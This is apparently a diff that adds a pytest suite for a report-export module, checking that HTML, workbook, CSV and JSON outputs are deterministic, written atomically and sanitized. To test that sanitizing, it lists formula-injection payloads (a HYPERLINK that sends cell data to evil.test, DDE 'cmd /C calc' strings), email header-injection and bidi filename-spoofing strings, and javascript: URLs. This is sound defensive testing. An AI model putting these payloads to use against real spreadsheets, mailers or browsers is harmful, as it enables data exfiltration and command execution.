@@ -1,0 +1,376 @@
+"""Reports and exports: what each format holds, that nothing in it is alive, and that files appear whole."""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import json
+import math
+import re
+import subprocess
+import sys
+from collections.abc import Iterator
+from dataclasses import replace
+from datetime import date, datetime
+from pathlib import Path
+
+import openpyxl
+import pytest
+from outputs_nouns import NOW, WHY, crawls, empty, mood, quote, report, row
+
+from listening.errors import InputError
+from listening.outputs import write_report, write_rows
+from listening.outputs.journey_table import columns
+from listening.outputs.text import LONGEST_CELL, LOST, csv_cell, header, link, one_line
+from listening.outputs.wording import count, nights, priority, signed, status
+from listening.outputs.workbook import render as as_xlsx
+from listening.types import Report, TouchpointRow
+
+FORMULAS = (
+    "=1+1",
+    '=HYPERLINK("http://evil.test?x="&A1,"click")',
+    "+49 170",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\N{FULLWIDTH EQUALS SIGN}1+1",
+    "'=1+1",
+    "''=1+1",
+    "http://evil.test",
+    "mailto:a@b.test",
+    "internal:Sheet1!A1",
+    "external:c:\\x.xlsx",
+    "{=1+1}",
+    "007",
+    "",
+)
+
+
+def hostile_report(text: str) -> Report:
+    """A report in which every text that anybody could have written is the given one."""
+    bad_quote = quote(text, source=text, url=text)
+    bad = row(
+        name=text, owner=text, department=text, stage=text, touchpoint=text, status=text, quotes=(bad_quote,) * 2,
+        sources=(text,), emergences=(text,),
+    )  # fmt: skip
+    return report(
+        map_name=text,
+        moods=(replace(mood("use", "", 1.0, 0.1), name=text),),
+        touchpoints=(TouchpointRow(text, text, "use", "heard", 1, 1), TouchpointRow("x", text, text, "quiet", 0, 0)),
+        pain_points=(bad, row(id=text, name=text)),
+        sources=(replace(crawls()[0], source=text, error=text, warnings=(text,)),),
+    )
+
+
+def written(made: Report, folder: Path, name: str) -> Path:
+    write_report(made, folder / name)
+    return folder / name
+
+
+def sheets(path: Path) -> Iterator[tuple[str, list[tuple[object, ...]]]]:
+    book = openpyxl.load_workbook(path)
+    for page in book:
+        yield page.title, list(page.iter_rows(values_only=True))
+
+
+class TestFormats:
+    @pytest.mark.parametrize("ending", [".html", ".xlsx", ".csv", ".json", ".JSON"])
+    def test_the_ending_chooses_and_the_same_report_gives_the_same_bytes(self, tmp_path: Path, ending: str) -> None:
+        first, second = (written(report(), tmp_path, name + ending).read_bytes() for name in "ab")
+        assert first == second
+        assert len(first) > 500
+
+    @pytest.mark.parametrize("name", ["r.pdf", "r", "r.html.bak"])
+    def test_another_ending_names_those_that_work(self, tmp_path: Path, name: str) -> None:
+        with pytest.raises(InputError, match=r"end it in \.html, \.xlsx, \.csv, \.json"):
+            write_report(report(), tmp_path / name)
+        assert list(tmp_path.iterdir()) == []
+
+    def test_a_missing_folder_is_named(self, tmp_path: Path) -> None:
+        with pytest.raises(InputError, match="missing/r.json cannot be written"):
+            write_report(report(), tmp_path / "missing" / "r.json")
+
+    def test_the_old_file_stays_when_the_new_one_cannot_take_its_place(self, tmp_path: Path) -> None:
+        (tmp_path / "r.json").mkdir()
+        with pytest.raises(InputError, match="cannot be written"):
+            write_report(report(), tmp_path / "r.json")
+        assert [path.name for path in tmp_path.iterdir()] == ["r.json"]
+
+    def test_nothing_heavy_is_imported_before_a_verb_is_called(self) -> None:
+        code = (
+            "import sys, listening.outputs; print([m for m in ('jinja2','xlsxwriter','smtplib') if m in sys.modules])"
+        )
+        ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)  # noqa: S603 -- ours
+        assert ran.stdout.strip() == "[]"
+
+
+class TestWorkbook:
+    def test_the_sheets_say_what_a_review_needs(self, tmp_path: Path) -> None:
+        found = dict(sheets(written(report(), tmp_path, "r.xlsx")))
+        assert list(found) == ["Map", "Pain points", "Evidence", "Touchpoints", "Sources"]
+        assert found["Map"][0][1:] == tuple(one.name for one in report().moods)
+        assert found["Map"][3][3] == "\N{MINUS SIGN}0.4 (\N{MINUS SIGN}0.5 to \N{MINUS SIGN}0.3)"
+        assert found["Map"][3][7] == "blind: nobody heard"
+        assert "Checkout asks for the deposit twice (31 people)" in [line[3] for line in found["Map"]]
+        head, first, second, _ = found["Pain points"]
+        line = dict(zip(head, first, strict=True))
+        expected = {
+            "ID": "pp-1111111111", "Stage": "Book and pay", "Touchpoint": "Checkout", "People": 31, "Unspoken": 0.08,
+            "Status": "doing", "Owner": "ann", "Department": "Payments", "Importance": 5, "Cost": 3, "Ease": 2,
+            "Priority": 30, "First seen": datetime(2026, 1, 9), "Last seen": datetime(2026, 3, 30),  # noqa: DTZ001 -- a cell has no zone
+        }  # fmt: skip
+        assert {name: line[name] for name in expected} == expected
+        assert dict(zip(head, second, strict=True))["Priority"] is None
+        assert found["Evidence"][1][2:5] == (quote().text, "yard", datetime(2026, 3, 28, 9, 5))  # noqa: DTZ001 -- the same
+        assert len(found["Sources"]) == 1 + len(crawls())
+
+    def test_heads_stay_in_view_and_can_be_filtered(self, tmp_path: Path) -> None:
+        book = openpyxl.load_workbook(written(report(), tmp_path, "r.xlsx"))
+        page = book["Pain points"]
+        assert (page.freeze_panes, page.auto_filter.ref) == ("C2", "A1:S4")
+        assert page.column_dimensions["B"].width > 30
+        assert [str(one.sqref) for one in page.data_validations.dataValidation] == ["J2:J4"]
+
+    @pytest.mark.parametrize("text", FORMULAS)
+    def test_no_text_becomes_a_formula_or_a_link(self, tmp_path: Path, text: str) -> None:
+        book = openpyxl.load_workbook(written(hostile_report(text), tmp_path, "r.xlsx"))
+        cells = [one for page in book for line in page.iter_rows() for one in line]
+        assert {one.data_type for one in cells} <= {"s", "n", "d", "inlineStr"}
+        assert [one for one in cells if one.hyperlink] == []
+        assert book["Evidence"]["C2"].value == (text.replace("\r", "\n") or None)
+
+    def test_what_a_cell_cannot_hold_is_replaced_or_cut(self, tmp_path: Path) -> None:
+        made = report(
+            pain_points=(row(name="a\x00\x1b\ud800b", quotes=(quote("ä" * 40_000),), unspoken_share=math.nan),)
+        )
+        found = dict(sheets(written(made, tmp_path, "r.xlsx")))
+        assert found["Pain points"][1][1] == f"a{LOST * 3}b"
+        assert found["Pain points"][1][8] is None
+        assert found["Evidence"][1][2] == "ä" * (LONGEST_CELL - 1) + "…"
+
+    def test_an_empty_report_has_its_heads(self, tmp_path: Path) -> None:
+        found = dict(sheets(written(empty(), tmp_path, "r.xlsx")))
+        assert [len(found[name]) for name in ("Pain points", "Evidence", "Sources")] == [1, 1, 1]
+
+
+class TestCsv:
+    def read(self, path: Path) -> list[list[str]]:
+        with path.open(encoding="utf-8-sig", newline="") as file:
+            return list(csv.reader(file))
+
+    def test_one_line_a_pain_point(self, tmp_path: Path) -> None:
+        head, first, second, _ = self.read(written(report(), tmp_path, "r.csv"))
+        line = dict(zip(head, first, strict=True))
+        assert (line["map"], line["since"], line["id"], line["priority"]) == (
+            "hire",
+            "2026-01-01",
+            "pp-1111111111",
+            "30",
+        )
+        assert (line["trend"], line["sources"]) == ("2 2 3 1 2 4 3 2 3 4 2 3", "reddit | yard")
+        line = dict(zip(head, second, strict=True))
+        assert (line["priority"], line["emergences"], line["quote_url"]) == ("", WHY, "https://yard.test/t/17/3")
+
+    @pytest.mark.parametrize("text", FORMULAS)
+    def test_no_cell_begins_like_a_formula_and_all_can_be_read_back(self, tmp_path: Path, text: str) -> None:
+        lines = self.read(written(hostile_report(text), tmp_path, "r.csv"))
+        assert {len(line) for line in lines} == {26}
+        assert [one for line in lines for one in line if re.match(r"\s*[=+\-@\t\r\uff1d]", one)] == []
+        name = lines[1][lines[0].index("name")]
+        assert re.sub(r"^'(?='*\s*[=+\-@\t\r\uff1d])", "", name) == text
+
+    def test_the_columns_are_those_of_the_description(self, tmp_path: Path) -> None:
+        from listening.outputs import csv_file  # noqa: PLC0415 -- only its description is read
+
+        listed = (csv_file.render.__doc__ or "").partition("for ever:")[2].partition(".")[0]
+        assert self.read(written(empty(), tmp_path, "r.csv")) == [re.findall(r"\w+", listed)]
+
+
+class TestJson:
+    def test_names_are_those_of_the_description(self, tmp_path: Path) -> None:
+        from listening.outputs import json_file  # noqa: PLC0415 -- only its description is read
+
+        made = json.loads(written(report(), tmp_path, "r.json").read_bytes())
+        told = re.sub(r"\([^)]*\)", "", json_file.render.__doc__ or "")
+        lists = dict(re.findall(r"^    (\w+): ([\w,\s]+?)$(?=\n    \S|\s*\Z)", told, re.MULTILINE))
+        parts = {"report": made, "quotes": made["pain_points"][0]["quotes"][0]}
+        parts |= {name: made[name][0] for name in ("stages", "touchpoints", "pain_points", "sources")}
+        assert {name: list(part) for name, part in parts.items()} == {
+            name: re.findall(r"\w+", names) for name, names in lists.items()
+        }
+
+    def test_values_are_plain_and_no_person_can_be_followed(self, tmp_path: Path) -> None:
+        path = written(report(), tmp_path, "r.json")
+        made = json.loads(path.read_bytes())
+        assert (made["format"], made["since"], made["made_at"]) == (
+            "listening.report.v1", "2026-01-01", "2026-04-01T05:30:00+00:00",
+        )  # fmt: skip
+        assert made["stages"][6] == {
+            "stage": "stay", "name": "Stay a member", "assumed": 1.0, "mean": None, "low": None, "high": None,
+            "people": 0, "blind": True,
+        }  # fmt: skip
+        assert b"p-1" not in path.read_bytes().replace(b"pp-1", b"")
+
+    def test_what_is_no_number_is_null(self, tmp_path: Path) -> None:
+        made = report(
+            moods=(replace(mood("use", "Ride", math.inf, 0.0), mean=math.nan),),
+            pain_points=(row(unspoken_share=-math.inf),),
+        )
+        found = json.loads(written(made, tmp_path, "r.json").read_bytes(), parse_constant=pytest.fail)
+        assert (found["stages"][0]["mean"], found["stages"][0]["assumed"], found["stages"][0]["blind"]) == (
+            None,
+            None,
+            True,
+        )
+        assert found["pain_points"][0]["unspoken_share"] is None
+
+
+@pytest.mark.shared
+def test_naughty_strings_come_back_as_they_were(shared: Path, tmp_path: Path) -> None:
+    texts = json.loads((shared / "corpora" / "blns" / "blns.json").read_text())
+    made = report(
+        pain_points=tuple(row(id=f"pp-{n}", name=text, quotes=(quote(text),)) for n, text in enumerate(texts))
+    )
+    from_json = json.loads(written(made, tmp_path, "r.json").read_bytes())
+    assert [one["name"] for one in from_json["pain_points"]] == texts
+    book = dict(sheets(written(made, tmp_path, "r.xlsx")))
+    assert len(book["Pain points"]) == len(book["Evidence"]) == 1 + len(texts)
+    kept = [
+        re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", LOST, text).replace("\r", "\n") or None for text in texts
+    ]
+    assert [line[1] for line in book["Pain points"][1:]] == kept
+    with written(made, tmp_path, "r.csv").open(encoding="utf-8-sig", newline="") as file:
+        assert len(list(csv.reader(file))) == 1 + len(texts)
+    assert written(made, tmp_path, "r.html").read_text(encoding="utf-8").count("<article") == len(texts)
+
+
+class TestRows:
+    ROWS = ({"id": "a", "text": "=1", "n": 1, "x": None}, {"id": "b\nc", "text": "ä\ud800", "n": 2.5, "x": math.nan})
+
+    def test_jsonl_keeps_texts_as_they_are(self, tmp_path: Path) -> None:
+        assert write_rows(self.ROWS, tmp_path / "r.jsonl") == 2
+        lines = (tmp_path / "r.jsonl").read_text(encoding="utf-8").splitlines()
+        assert [json.loads(line) for line in lines] == [
+            {"id": "a", "text": "=1", "n": 1, "x": None},
+            {"id": "b\nc", "text": f"ä{LOST}", "n": 2.5, "x": None},
+        ]
+
+    def test_csv_has_the_first_rows_fields_and_no_formula(self, tmp_path: Path) -> None:
+        assert write_rows(iter(self.ROWS), tmp_path / "r.csv") == 2
+        text = (tmp_path / "r.csv").read_bytes().decode()
+        assert text == f'id,text,n,x\r\na,\'=1,1,\r\n"b\nc",ä{LOST},2.5,\r\n'
+
+    @pytest.mark.parametrize("ending", [".jsonl", ".csv"])
+    def test_zipped_rows_are_the_same_rows_and_the_same_bytes(self, tmp_path: Path, ending: str) -> None:
+        for name in ("a", "b", "plain"):
+            write_rows(self.ROWS, tmp_path / f"{name}{ending}{'' if name == 'plain' else '.gz'}")
+        zipped = (tmp_path / f"a{ending}.gz").read_bytes()
+        assert zipped == (tmp_path / f"b{ending}.gz").read_bytes()
+        assert gzip.decompress(zipped) == (tmp_path / f"plain{ending}").read_bytes()
+
+    def test_no_rows_are_an_empty_file(self, tmp_path: Path) -> None:
+        assert write_rows([], tmp_path / "r.csv") == 0
+        assert (tmp_path / "r.csv").read_bytes() == b""
+
+    @pytest.mark.parametrize("name", ["r.xlsx", "r.gz", "r", "r.json", "r.csv.zip"])
+    def test_another_ending_names_those_that_work(self, tmp_path: Path, name: str) -> None:
+        with pytest.raises(InputError, match=r"end it in \.jsonl or \.csv"):
+            write_rows(self.ROWS, tmp_path / name)
+
+    @pytest.mark.parametrize("name", ["r.csv", "r.jsonl", "r.csv.gz"])
+    def test_rows_that_break_off_leave_the_old_file(self, tmp_path: Path, name: str) -> None:
+        (tmp_path / name).write_text("old")
+
+        def broken() -> Iterator[dict[str, str]]:
+            yield {"id": "a"}
+            raise RuntimeError("the store went away")
+
+        with pytest.raises(RuntimeError, match="went away"):
+            write_rows(broken(), tmp_path / name)
+        assert [(one.name, one.read_text()) for one in tmp_path.iterdir()] == [(name, "old")]
+
+    def test_a_row_of_another_shape_is_a_mistake(self, tmp_path: Path) -> None:
+        with pytest.raises(ValueError, match=r"row 2 .*\['b'\]"):
+            write_rows([{"a": 1}, {"a": 1, "b": 2}], tmp_path / "r.csv")
+        assert list(tmp_path.iterdir()) == []
+
+
+class TestWords:
+    @pytest.mark.parametrize(
+        ("text", "safe"),
+        [
+            ("a\r\nBcc: x@evil.test", "a Bcc: x@evil.test"),
+            ("a\x00\x85\u2028\x1b[31mb", "a [31mb"),
+            ("abc \u202egnp.exe\u2069", "abc gnp.exe"),
+            ("=?utf-8?q?a=0D=0ABcc:x?=", "= ?utf-8?q?a=0D=0ABcc:x?="),
+            ("x" * 200, "x" * 149 + "…"),
+        ],
+    )
+    def test_a_header_is_one_plain_line(self, text: str, safe: str) -> None:
+        assert header(text) == safe
+
+    @pytest.mark.parametrize(
+        ("url", "followed"),
+        [
+            ("https://yard.test/t/1?a=b&c=d#e", True),
+            ("HTTP://yard.test", True),
+            ("http://[::1]:80/", True),
+            ("javascript:alert(1)", False),
+            (" https://yard.test", False),
+            ("https://", False),
+            ("//yard.test", False),
+            ("https:yard.test", False),
+            ("data:text/html,x", False),
+            ("java\tscript:alert(1)", False),
+            ('https://yard.test/"onload=x', False),
+            ("https://yard.test/<b>", False),
+            ("https://[yard", False),
+            ("https://yard.test/" + "x" * 2000, False),
+            ("", False),
+        ],
+    )
+    def test_a_link_is_http_or_none(self, url: str, *, followed: bool) -> None:
+        assert link(url) == (url if followed else "")
+
+    def test_small_words(self) -> None:
+        assert (count(1, "person", "people"), count(1200, "person", "people"), count(0, "post")) == (
+            "1 person", "1,200 people", "0 posts",
+        )  # fmt: skip
+        assert (signed(0.04), signed(-0.04), signed(-1), signed(0.5)) == ("0.0", "0.0", "\N{MINUS SIGN}1.0", "+0.5")
+        assert (status("came_back"), status("some_new_one")) == ("came back", "some new one")
+        assert one_line("  a \n b  ") == "a b"
+        assert csv_cell("plain - text") == "plain - text"
+        days = [date(2026, 2, 28), date(2026, 3, 1), date(2026, 3, 2), date(2026, 3, 9), date(2026, 3, 9)]
+        assert (nights(days), nights([])) == ("28 Feb to 2 Mar, 9 Mar", "")
+
+    @pytest.mark.parametrize(("given", "expected"), [((5, 4, 3), 60), ((5, None, 3), None), ((None, 4, 3), None)])
+    def test_priority_needs_all_three(self, given: tuple[int | None, ...], expected: int | None) -> None:
+        importance, cost, ease = given
+        assert priority(row(importance=importance, cost=cost, ease=ease)) == expected
+
+
+def test_every_pain_and_touchpoint_stands_once_on_the_map() -> None:
+    strays = (
+        row(id="pp-a", stage="none", touchpoint=""),
+        row(id="pp-b", stage="use", touchpoint="checkout"),
+        row(id="pp-c", stage="gone", touchpoint="helmet"),
+    )
+    lost = TouchpointRow("old", "Old counter", "gone", "blind", 0, 0)
+    made = report(pain_points=(*report().pain_points, *strays), touchpoints=(*report().touchpoints, lost))
+    found = columns(made)
+    assert [one.name for one in found] == [*(one.name for one in made.moods), "Fits no stage"]
+    assert sorted(pain.id for one in found for pain in one.pains) == sorted(one.id for one in made.pain_points)
+    assert [pain.id for pain in found[4].loose] == ["pp-b"]
+    assert ([pain.id for pain in found[7].loose], found[7].places[0].row) == (["pp-a", "pp-c"], lost)
+    assert sum(len(one.places) for one in found) == len(made.touchpoints)
+
+
+def test_a_workbook_of_a_thousand_pain_points_opens() -> None:
+    made = report(pain_points=tuple(row(id=f"pp-{number}") for number in range(1000)))
+    page = openpyxl.load_workbook(io.BytesIO(as_xlsx(made)), read_only=True)["Evidence"]
+    assert sum(1 for _ in page.iter_rows()) == 3001
+    assert NOW == made.made_at
